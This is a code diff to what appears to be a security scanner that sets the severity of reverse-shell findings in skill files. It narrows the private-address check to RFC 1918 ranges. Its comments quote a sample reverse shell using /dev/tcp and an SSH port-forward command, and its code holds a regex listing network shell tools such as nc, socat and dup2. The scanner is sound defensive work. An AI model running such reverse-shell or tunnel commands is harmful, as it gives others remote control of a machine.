@@ -2,8 +2,8 @@
  * A reverse shell shown in a document and aimed at a private address (`bash -i >&
  * /dev/tcp/10.10.14.2/4444` in a CTF write-up): no host on the internet can take that
  * connection, so it is a lab exercise's text, not a complete chain. It goes from critical to
- * high (a person still reviews it), and only when every address on the line is private (RFC 1918,
- * 1918, loopback or a documentation range) and the finding sits in a Markdown document, not a script: a script connecting to the
+ * high (a person still reviews it), and only when every address on the line is private (RFC
+ * 1918) and the finding sits in a Markdown document, not a script: a script connecting to the
  * user's own network keeps its severity, and one public address or host name anywhere on the
  * line does too. So does a skill with a port forward or tunnel anywhere in its files (`ssh -L
  * 10.0.0.5:4444:localhost:4444 relay.example` after `ip addr add 10.0.0.5/32 dev lo`, socat,
@@ -32,14 +32,9 @@ const PTY_UPGRADE_ONLY = /\bpty\.spawn\s*\(/;
 /** What would make a line a network shell: a socket, a connect, a descriptor copied, /dev/tcp, netcat. */
 const SOCKET_WORDS = /\bsocket\b|\.connect\s*\(|\bdup2\b|\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat|socat|telnet)\b|\brecv\b/i;
 
-/**
- * Private (RFC 1918), loopback, and the documentation ranges (RFC 5737: 192.0.2.0/24,
- * 198.51.100.0/24, 203.0.113.0/24) that training material uses because no host can ever hold them.
- */
 function isPrivate(ip: string): boolean {
-  const [a, b, c] = ip.split(".").map(Number) as [number, number, number];
-  return a === 10 || a === 127 || (a === 172 && b >= 16 && b <= 31) || (a === 192 && b === 168)
-    || (a === 192 && b === 0 && c === 2) || (a === 198 && b === 51 && c === 100) || (a === 203 && b === 0 && c === 113);
+  const [a, b] = ip.split(".").map(Number) as [number, number];
+  return a === 10 || (a === 172 && b >= 16 && b <= 31) || (a === 192 && b === 168);
 }
 
 /** `textOf` gives a skill file's text (undefined for binaries and large files: nothing to read there). */
